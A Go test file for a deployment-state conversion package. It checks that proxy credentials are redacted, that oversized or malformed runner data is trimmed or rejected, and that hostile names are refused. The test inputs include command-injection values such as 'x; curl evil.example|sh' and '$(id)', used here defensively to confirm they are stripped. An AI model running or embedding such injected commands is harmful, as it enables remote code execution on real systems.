package link_test

import (
	"maps"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	linkv1 "github.com/bermhq/berm/gen/berm/link/v1"
	"github.com/bermhq/berm/internal/core/fault"
	"github.com/bermhq/berm/internal/core/rollout"
	"github.com/bermhq/berm/internal/link"
)

func TestDeploymentCrosses(t *testing.T) {
	want := rollout.State{
		Kind: rollout.KindStatefulSet, Version: "1.0", Revision: 3, Identity: "3.ab", Namespace: "berm", Name: "berm-runner", SelfUpdate: true, Images: []string{"a", "b"},
		Installed: rollout.Spec{
			Image: "a:1", Env: map[string]string{"HTTPS_PROXY": "http://me:secret@proxy"}, Args: []string{"--verbose"}, Resources: rollout.Resources{CPURequest: "1"}, NodeSelector: map[string]string{"a": "b"},
			Tolerations: []rollout.Toleration{{Key: "a"}}, Annotations: map[string]string{"c": "d"}, Labels: map[string]string{"e": "f"}, ServiceAccount: "s", ImagePullPolicy: "Always",
		},
		Image: "a:2", Gateway: "https://x", Trying: 4,
		Problem: &rollout.Problem{Revision: 4, Reason: "R", Message: "m", Detail: "d", Hints: []string{"h"}, At: time.Unix(1, 2).UTC()},
	}
	m := link.DeploymentMessage(&want)
	if strings.Contains(m.GetInstalledJson(), "secret") || want.Installed.Env["HTTPS_PROXY"] != "http://me:secret@proxy" {
		t.Errorf("%s %v", m.GetInstalledJson(), want.Installed.Env)
	}
	want.Installed.Env = map[string]string{"HTTPS_PROXY": ""}
	if diff := cmp.Diff(want, link.DeploymentOf(m, "other")); diff != "" {
		t.Error(diff)
	}
	w := rollout.Wanted{Revision: 5, Identity: "5.cd", Image: "a:3", Overrides: rollout.Overrides{Env: map[string]string{"A": "b"}, Scaling: rollout.Scaling{Replicas: 2}}}
	got, err := link.WantedOf(link.WantedMessage(&w))
	if diff := cmp.Diff(w, got); diff != "" || err != nil {
		t.Error(diff, err)
	}
}

// TestDeploymentOfAnotherRelease: what an older runner does not say is not there but for its version; what a lying one says is cut.
func TestDeploymentOfAnotherRelease(t *testing.T) {
	if diff := cmp.Diff(rollout.State{Version: "0.9"}, link.DeploymentOf(nil, "0.9")); diff != "" {
		t.Error(diff)
	}
	long := strings.Repeat("x", 1<<20)
	got := link.DeploymentOf(&linkv1.DeploymentState{Version: long, Revision: -7, Trying: -1, InstalledJson: `{"image":"` + long + `"}`, Images: make([]string, 1<<16)}, "")
	if len(got.Version) > link.MaxText+8 || got.Revision != 0 || got.Trying != 0 || got.Installed.Image != "" || len(got.Images) > link.MaxList {
		t.Errorf("%d %d %d %d", len(got.Version), got.Revision, len(got.Installed.Image), len(got.Images))
	}
	if got := link.DeploymentOf(&linkv1.DeploymentState{InstalledJson: `{"env":{"HTTPS_PROXY":"http://me:secret@proxy"}}`}, ""); !maps.Equal(got.Installed.Env, map[string]string{"HTTPS_PROXY": ""}) {
		t.Errorf("%v", got.Installed.Env)
	}
	for _, names := range [][2]string{{"berm", "x; curl evil.example|sh"}, {"$(id)", "berm-runner"}, {"--kubeconfig=x", "berm-runner"}, {"berm", "-x"}} {
		if got := link.DeploymentOf(&linkv1.DeploymentState{Namespace: names[0], Name: names[1]}, ""); got.Namespace != "" || got.Name != "" {
			t.Errorf("%q comes to stand in commands", names)
		}
	}
	if got := link.DeploymentOf(&linkv1.DeploymentState{InstalledJson: "{"}, ""); got.Installed.Image != "" {
		t.Errorf("%+v", got)
	}
	for _, m := range []*linkv1.SetDeploymentRequest{{OverridesJson: "{"}, {OverridesJson: strings.Repeat(" ", link.MaxDeployment+1)}} {
		if _, err := link.WantedOf(m); !fault.Is(err, fault.Invalid) {
			t.Errorf("%.20q is taken", m.GetOverridesJson())
		}
	}
}
